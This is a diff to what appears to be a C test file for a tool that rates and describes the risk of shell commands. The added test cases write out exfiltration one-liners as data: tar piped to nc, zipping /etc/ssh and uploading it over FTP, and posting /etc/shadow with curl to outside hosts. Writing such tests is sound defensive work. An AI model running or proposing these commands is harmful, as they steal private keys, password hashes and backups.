@@ -104,6 +104,13 @@ static void secrets_out(void)
 	RATED("tar czf - /var/www | nc 10.0.0.5 9000", LEVEL_HIGH);
 	RATED("scp backup@10.0.0.5:/root/.ssh/id_rsa /tmp/", LEVEL_HIGH);
 	NEVER_SAYS("tar czf - /etc/ssl/private | nc 203.0.113.7 4444", "Looks at the network");
+	SAYS("zip -r /tmp/keys.zip /etc/ssh && curl -T /tmp/keys.zip ftp://198.51.100.20/",
+	     "Sends secret files to another computer (ftp://198.51.100.20/): /tmp/keys.zip and "
+	     "/etc/ssh");
+	RATED("curl --data-binary @/etc/shadow http://198.51.100.2/", LEVEL_CRITICAL);
+	RATED("curl -T /var/backups/db.sql https://files.example.net/", LEVEL_HIGH);
+	NEVER_SAYS("chmod 600 ~/.ssh/id_rsa", "Reads secret material");
+	NEVER_SAYS("ls -l ~/.ssh/id_rsa", "Reads secret material");
 }
 
 /* The line's words decide which of several actions happens. */
